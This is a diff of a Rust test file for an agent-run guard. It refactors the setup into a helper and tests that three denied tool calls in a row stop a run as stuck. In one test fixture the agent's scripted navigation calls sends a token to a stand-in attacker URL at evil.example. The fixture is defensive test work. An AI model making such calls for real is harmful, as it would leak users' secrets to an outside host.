@@ -142,8 +142,8 @@ fn codex_findings_are_printed_after_the_summary() {
     );
 }
 
-#[test]
-fn the_same_wall_max_denials_in_a_row_times_stops_the_run_as_stuck_exit_5() {
+/// A sandbox whose flow stops the run after the same wall 3 times in a row.
+fn stuck_after_three_denials() -> Sandbox {
     let sb = Sandbox::with_user_files();
     let flow = std::fs::read_to_string(sb.flow()).unwrap().replacen(
         "+++\nname",
@@ -151,6 +151,12 @@ fn the_same_wall_max_denials_in_a_row_times_stops_the_run_as_stuck_exit_5() {
         1,
     );
     std::fs::write(sb.flow(), flow).unwrap();
+    sb
+}
+
+#[test]
+fn the_same_wall_max_denials_in_a_row_times_stops_the_run_as_stuck_exit_5() {
+    let sb = stuck_after_three_denials();
     let tool = "mcp__personastub__navigate";
     let mut script = String::new();
     // Two denials, an allowed call (the count starts again), then three denials in a row; the
@@ -274,13 +280,7 @@ fn a_quiet_run_says_what_it_waits_for_and_a_timeout_records_it() {
 fn codex_denials_that_print_nothing_still_stop_a_stuck_run() {
     // Codex leaves no stream item for a denied call: the three denials below are only in the
     // guard's events, and the worker prints nothing after them.
-    let sb = Sandbox::with_user_files();
-    let flow = std::fs::read_to_string(sb.flow()).unwrap().replacen(
-        "+++\nname",
-        "+++\nmax_denials_in_a_row = 3\nname",
-        1,
-    );
-    std::fs::write(sb.flow(), flow).unwrap();
+    let sb = stuck_after_three_denials();
     sb.set_script(
         "@guard-codex mcp__personastub__navigate https://evil.example/a?token=s3cret\n\
          @guard-codex mcp__personastub__navigate https://evil.example/b\n\
